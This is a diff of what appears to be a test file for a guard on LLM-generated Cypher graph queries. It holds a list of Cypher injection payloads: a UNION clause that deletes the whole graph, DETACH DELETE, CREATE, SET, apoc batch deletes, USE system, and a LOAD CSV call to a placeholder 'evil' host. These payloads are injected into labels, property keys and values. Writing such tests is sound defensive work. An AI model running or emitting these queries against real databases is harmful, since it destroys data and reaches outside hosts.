@@ -50,13 +50,21 @@ ATTACKS = [
     "MATCH (d:drug)-[:indication]->(x:disease {name: 'migraine'}) UNION MATCH (n) DETACH DELETE n RETURN n",
 ]
 # The same payloads in the places an LLM reply can carry them: labels, types, property keys, values, RETURN.
-PAYLOADS = ["DETACH DELETE n", "CREATE (:evil)", "SET n.name = 'evil'", "CALL dbms.killQueries([])",
-            "LOAD CSV FROM 'http://evil' AS l", "MERGE (:evil)", "REMOVE n:drug", "FOREACH (x IN [1] | CREATE (:evil))",
-            "CALL apoc.periodic.iterate('MATCH (n) RETURN n', 'DELETE n', {})", "USE system"]  # fmt: skip
+PAYLOADS = [
+    "DETACH DELETE n",
+    "CREATE (:evil)",
+    "SET n.name = 'evil'",
+    "CALL dbms.killQueries([])",
+    "LOAD CSV FROM 'http://evil' AS l",
+    "MERGE (:evil)",
+    "REMOVE n:drug",
+    "FOREACH (x IN [1] | CREATE (:evil))",
+    "CALL apoc.periodic.iterate('MATCH (n) RETURN n', 'DELETE n', {})",
+    "USE system",
+]
 ATTACKS += [f"MATCH (d:`drug {p}`)-[:indication]->(x:disease {{name: 'migraine'}}) RETURN d" for p in PAYLOADS]
 ATTACKS += [f"MATCH (d:drug)-[:`indication {p}`]->(x:disease {{name: 'migraine {p}'}}) RETURN d" for p in PAYLOADS]
 ATTACKS += [f"MATCH (d:drug)-[:indication]->(x:disease {{`{p}`: 'migraine'}}) RETURN d, {p}" for p in PAYLOADS]
-
 
 
 FIXTURE_SCHEMA = GraphSchema(
